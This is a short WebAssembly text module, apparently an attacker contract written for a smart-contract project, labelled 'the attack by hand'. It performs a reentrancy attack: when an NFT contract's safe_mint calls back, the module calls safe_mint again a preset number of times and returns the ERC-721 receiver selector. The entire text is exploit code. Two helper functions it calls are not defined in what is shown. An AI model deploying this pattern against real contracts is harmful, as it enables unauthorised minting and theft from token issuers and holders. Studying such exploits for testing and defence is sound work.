;; The attack by hand.

(module $attacker
  (import "contract:masks" "safe_mint" (func $masks.safe_mint))
  (import "ethereum" "finish" (func $finish (param i32 i32)))
  ;; @storage
  (memory $memory (export "memory") 1)

  ;; Ends the call well, with a number of four bytes.
  (func $give4 (param $number i32)
    (i32.store $memory (i32.const 64) (local.get $number))
    (call $finish (i32.const 64) (i32.const 4)))

  (func $arm (export "arm") (param $times i64)
    (call $store_i64 (i32.const 0) (local.get $times)))

  (func $main (export "main")
    (if (i64.gt_s (call $load_i64 (i32.const 0)) (i64.const 0))
      (then
        (call $store_i64 (i32.const 0) (i64.sub (call $load_i64 (i32.const 0)) (i64.const 1)))
        (call $masks.safe_mint)))
    (call $give4 (i32.const 0x150b7a02))))
